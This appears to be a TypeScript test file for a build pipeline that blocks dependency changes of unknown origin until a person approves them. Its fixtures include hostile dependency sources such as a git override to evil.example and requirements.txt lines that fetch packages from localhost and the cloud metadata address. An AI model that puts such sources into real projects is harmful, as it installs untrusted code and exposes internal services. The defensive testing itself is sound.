/** Tests that a change with code of unknown origin goes back before any installation, unless a person approves it. */
import type { Approval } from '../../../src/domain/findings';
import type { Worked } from '../../../src/domain/build/outcome';
import type { FileChange } from '../../../src/ports/workspace';
import { openTestContext } from '../on-activity';
import type { TestContext } from '../on-activity';

const MANIFEST = '{ "type": "module", "scripts": { "test": "node --test" } }\n';
const TEST =
  "import assert from 'node:assert/strict';\nimport { test } from 'node:test';\n\ntest('one', () => assert.equal(1, 1));\n";
const FROM_GIT = MANIFEST.replace('}', '}, "overrides": { "a": "git+https://evil.example/a.git" }');
const CRITERION = { id: 'C1', requirement_ids: ['R1'], text: 'One.', tested_by: 'one', kind: 'new' };

let testContext: TestContext;
let installed = 0;
beforeAll(async () => {
  const criteria = [{ criterion_id: 'C1', tested_by: 'one', satisfied: true, note: '' }];
  const output = { verdict: 'pass', objections: [], tests_added: [], tests_updated: [], test_command: [], criteria };
  testContext = await openTestContext(() => ({ output }));
});
afterAll(() => testContext?.close());
beforeEach(() => {
  installed = 0;
});

async function judgeChange(phase: 'testing' | 'verification', files: FileChange[], approvals: Approval[] = []) {
  const { artifacts, workspace, checkouts } = testContext.deps;
  const put = async (value: unknown) => (await artifacts.put(JSON.stringify(value))).digest;
  const buildId = `b${++builds}`;
  const repo = { projectId: 'shop', buildId };
  const empty = await workspace.prepare(repo);
  const base = await workspace.apply(
    { ...repo, ...empty },
    [
      { path: 'package.json', content: MANIFEST },
      { path: 'test/one.test.js', content: TEST },
    ],
    'start',
  );
  const mark = { phase: 'implementation', generation: 1, attempt: 1, turn: 1 } as const;
  const { commit: start } = await workspace.publish(
    { ...repo, ...empty },
    { draftCommit: base.commit, message: 'start', mark },
  );
  const task = testContext.task({
    ...{ buildId, phase, base: start, commit: start, turn: 5, approvals },
    request: await put({
      user_id: 'ada',
      project_id: 'shop',
      build_id: buildId,
      requirements: 'One',
      commands: { test: ['node', '--test'] },
    }),
    outputs: {
      discovery: await put({ requirements: [{ id: 'R1' }] }),
      planning: await put({ success_criteria: [CRITERION], testing_strategy: 'a test' }),
      implementation: await put({ summary: 'One.', files }),
    },
    sources: { discovery: 'claimed', planning: 'claimed', implementation: 'claimed' },
  });
  const countingCheckouts: typeof checkouts = {
    look: (...args) => checkouts.look(...args),
    // An installation at the base does not count: it may be needed to look at the base.
    with: (input, use) => {
      if (input.at.commit !== input.base) installed += 1;
      return checkouts.with(input, use);
    },
  };
  const name = phase === 'testing' ? 'auditTests' : 'verify';
  return (await testContext.run(name, task, { checkouts: countingCheckouts })) as Worked;
}
let builds = 0;

test.each(['testing', 'verification'] as const)(
  'origins: overrides to a git address are a finding in %s, and no package is installed and no model is called',
  async (phase) => {
    const requestsBefore = testContext.requests.length;
    const outcome = await judgeChange(phase, [{ path: 'package.json', content: FROM_GIT }]);
    expect(outcome.by).toBe('orchestrator');
    expect(outcome.objections?.join('\n')).toContain('replaced: a comes from "git+https://evil.example/a.git"');
    expect(outcome.findings?.found.map(({ gate, onApprove }) => [gate, onApprove])).toEqual([['origins', phase]]);
    expect([installed, testContext.requests.length - requestsBefore]).toEqual([0, 0]);
  },
);

test.each([
  ['requirements.txt', 'evil @ http://127.0.0.1:8000/evil.tar.gz\n'],
  ['requirements.txt', 'evil@git+ssh://git@localhost/evil\n'],
  ['requirements.txt', '--index-url http://evil.example/simple\nevil\n'],
  ['requirements.txt', 'http://169.254.169.254/evil.whl\n'],
])('S2: %s with %j goes back before the install step, so none of its code runs', async (path, content) => {
  const outcome = await judgeChange('testing', [{ path, content }]);
  expect(outcome.by).toBe('orchestrator');
  expect(outcome.findings?.found.map(({ gate }) => gate)).toEqual(['origins']);
  expect(installed).toBe(0);
});

test('after a person approved exactly this finding, the change is installed', async () => {
  const changed = [{ path: 'Dockerfile', content: 'FROM somebody/node:22\n' }];
  const { findings } = await judgeChange('testing', changed);
  const [finding] = findings?.found ?? [];
  const shown = JSON.parse((await testContext.deps.artifacts.get(finding?.digest ?? '')).toString('utf8')) as {
    path: string;
    diff: string;
  };
  expect(shown).toMatchObject({ path: 'Dockerfile', diff: expect.stringContaining('+FROM somebody/node:22') });
  const approval = { gate: 'origins', digest: finding?.digest ?? '', actor: 'ada', at: '' };
  const outcome = await judgeChange('testing', changed, [approval]);
  expect(outcome.findings?.found).toEqual([]);
  expect(outcome.findings?.judged).toContain('origins');
  expect(installed).toBeGreaterThan(0);
});
